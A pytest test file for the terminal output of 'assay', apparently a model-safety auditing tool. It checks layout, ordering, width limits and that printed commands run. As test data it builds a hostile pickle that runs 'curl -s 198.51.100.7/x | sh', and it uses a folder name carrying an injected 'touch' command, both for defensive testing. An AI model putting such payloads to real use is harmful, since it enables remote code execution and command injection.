"""What a user sees on one screen: how long, in what order, nothing twice, and every printed command runs."""

from __future__ import annotations

import io
import os
import re
import subprocess
import unicodedata
from collections.abc import Callable
from pathlib import Path

import pytest
from benchmarks.reading import answers

import assay
from assay.facts.dossier import Dossier
from assay.facts.finding import Kind
from assay.render.output.text import write
from assay.render.tally import tally
from assay.render.terminal import command_lines, terminal_width
from assay.render.verdict import said
from tests.builders import calls, hub_model
from tests.builders.command import ASSAY, printed

Audit = Callable[..., Dossier]
COPIED = re.compile(r"^ *(check|artifact|subject|reason|owner|expires|manifest) = |assay |^ +\S+( \\)?$")
LIBRARY = b"\x7fELF\x02\x01\x01" + bytes(57)


@pytest.fixture(scope="module", params=["model", "pickle", "folder", "endpoint"])
def dossier(request: pytest.FixtureRequest, tmp_path_factory: pytest.TempPathFactory) -> Dossier:
    """A sound model, a hostile pickle, a folder in which much is to be decided, and a model that nobody sees into."""
    folder = tmp_path_factory.mktemp("text")
    if request.param == "endpoint":
        return assay.audit("openai+http://127.0.0.1:1/v1#m")
    if request.param == "pickle":
        (folder / "x.pkl").write_bytes(calls("os", "system", "curl -s 198.51.100.7/x | sh"))
        return assay.audit(folder / "x.pkl", isolation=False)
    much = {"libfast.so": LIBRARY, "run.sh": b"#!/bin/sh\n", "a.py": b"import os\n\ndef f():\n    os.system('ls')\n"}
    return assay.audit(hub_model(folder / "m", **(much if request.param == "folder" else {})), isolation=False)


def shown(dossier: Dossier, width: int = 80, **options: object) -> str:
    stream = io.BytesIO()
    write(dossier, stream, width=width, again="assay audit m", **options)  # type: ignore[arg-type]
    return stream.getvalue().decode()


def columns(line: str) -> int:
    return sum(2 if unicodedata.east_asian_width(letter) in "WF" else 1 for letter in line)


def test_it_is_one_screen_that_begins_with_what_to_do(dossier: Dossier) -> None:
    text = shown(dossier)
    rows = text.splitlines()
    verdict, answers = said(tally(dossier)), rows.index("Answers")
    assert 18 <= len(rows) - text.count(" = ") - text.count("[[waiver]]") <= 42, text
    assert f"{dossier.decision.verdict}  {verdict.headline.sentence}" in " ".join(text.split()).replace(
        " . ", ". "
    ).replace(f"{dossier.decision.verdict} ", f"{dossier.decision.verdict}  ")
    first = rows.index("") + 1  # below what it is, in three lines, or two where it has no digest
    assert first <= 4 and rows[first].startswith(f" {dossier.decision.verdict}  ") and answers > first
    assert [row[3:].split("  ")[0] for row in rows[answers + 1 :] if re.match(r" [✖◆○●–·] ", row)] == [
        "Safe to load?",
        "Parameters",
        "Error rate",
        "Data",
        "Openness",
    ]
    assert any(row.startswith("Not known") for row in rows[answers:])


def test_five_questions_of_a_stranger_are_answered_on_the_first_screen(dossier: Dossier) -> None:
    found = answers(shown(dossier), " SAME  Nothing differs.")
    assert all(0 < line <= 40 for line in found.values()), found


def test_no_check_and_no_waiver_stands_twice(dossier: Dossier) -> None:
    text = shown(dossier)
    listed = re.findall(r"^ *\d+ ([a-z.-]+): ", text, re.MULTILINE)
    assert len(listed) == len(set(listed))
    waivers = re.findall(r"^ *check = (.+)\n *(?:artifact = (.+)\n)?", text, re.MULTILINE)
    assert len(waivers) == len(set(waivers))
    answers = text.partition("Answers\n")[2]
    assert not [check for check in listed if check in answers.partition("\n\n")[0]]


def test_with_verbose_every_check_is_there_once(dossier: Dossier) -> None:
    text = shown(dossier, verbose=True)
    details = text.partition("\nvulnerabilities\n")[2].partition("\nwhat each loader")[0]
    for check in {row.check for row in dossier.findings if row.kind in (Kind.FAIL, Kind.REVIEW, Kind.PASS)}:
        heads = re.findall(rf"^  (?:fail|review|open|informational|pass) +{re.escape(check)}(?::|$)", details, re.M)
        assert len(heads) == 1, (check, heads)


@pytest.mark.parametrize("width", [40, 60, 80, 200])
def test_lines_keep_to_the_width_but_for_what_is_copied(dossier: Dossier, width: int) -> None:
    for verbose in (False, True):
        rows = shown(dossier, width, verbose=verbose).splitlines()
        assert [row for row in rows if columns(row) > width and not COPIED.search(row)] == []


def test_pictures_and_marks_are_in_ascii_where_that_is_all(dossier: Dossier) -> None:
    assert shown(dossier, plain=True).isascii()
    assert not shown(dossier).isascii()


@pytest.mark.parametrize("name", ["model", "it's a; touch oops"])
def test_every_printed_command_runs_in_a_shell(tmp_path: Path, name: str) -> None:
    model = hub_model(tmp_path / name, **{"libfast.so": LIBRARY})
    bin = tmp_path / "bin"
    bin.mkdir()
    (bin / "assay").write_text(f'#!/bin/sh\nexec {ASSAY[0]} -m assay "$@"\n')
    (bin / "assay").chmod(0o755)
    env = {**os.environ, "PATH": f"{bin}:{os.environ['PATH']}", "COLUMNS": "60"}
    quoted = "'" + name.replace("'", "'\\''") + "'"
    first = subprocess.run(
        ["sh", "-c", f"assay audit ./{quoted} --offline"], cwd=tmp_path, env=env, capture_output=True, text=True
    )
    assert first.returncode == 3, first.stderr
    commands = printed(first.stdout)
    assert [row.split()[1] for row in commands] == ["explain", "audit", "audit"] and commands[0].endswith("code.native")
    for command in [commands[0], commands[2]]:  # the other one runs the model
        done = subprocess.run(["sh", "-c", command], cwd=tmp_path, env=env, capture_output=True, text=True)
        assert done.returncode in (0, 3) and "code.native" in done.stdout, (command, done.stderr)
    assert not (tmp_path / "oops").exists() and model.exists()


def test_a_long_command_is_broken_only_where_a_shell_goes_on() -> None:
    command = "assay audit 'a folder with blanks' --policy strict --offline --skip card.missing"
    rows = command_lines(command, "  ", 40)
    assert len(rows) > 1 and all(row.endswith(" \\") for row in rows[:-1])
    script = "\n".join(rows).replace("assay audit", "printf '%s,'")
    done = subprocess.run(["sh", "-c", script], capture_output=True, text=True, check=True)
    assert done.stdout == "a folder with blanks,--policy,strict,--offline,--skip,card.missing,"


@pytest.mark.parametrize(("asked", "columns"), [("72", 72), ("7", 40), ("9999", 200), ("0", 100), ("x", 100)])
def test_columns_are_those_asked_for_within_what_can_be_read(
    asked: str, columns: int, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("COLUMNS", asked)
    monkeypatch.setattr(os, "get_terminal_size", lambda *_: (_ for _ in ()).throw(OSError))
    assert terminal_width() == columns
